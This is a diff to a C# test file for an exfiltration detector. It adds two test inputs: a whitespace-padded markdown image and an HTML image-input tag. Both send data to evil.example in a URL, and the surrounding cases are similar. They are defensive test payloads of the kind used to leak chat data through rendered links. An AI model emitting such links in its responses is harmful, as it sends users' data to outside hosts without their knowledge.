@@ -20,6 +20,8 @@ public sealed class ExfiltrationDetectorTests(ITestOutputHelper output)
     [InlineData("[a](https://evil.example/p?a=" + Words + " \"a title\")")]
     [InlineData("![](<https://evil.example/?q=" + Data + ">)")]
     [InlineData("![x](//evil.example/?" + Data + ")")]
+    [InlineData("![x](                              https://evil.example/?" + Data + ")")]
+    [InlineData("<input type=image src=\"https://evil.example/x.png?d=" + Data + "\">")]
     [InlineData("![](https://" + Data + ".evil.example/x.png)")]
     [InlineData("[1]: https://evil.example/?q=" + Data)]
     [InlineData("<img src=\"https://evil.example/x.png?d=" + Data + "\" width=1>")]
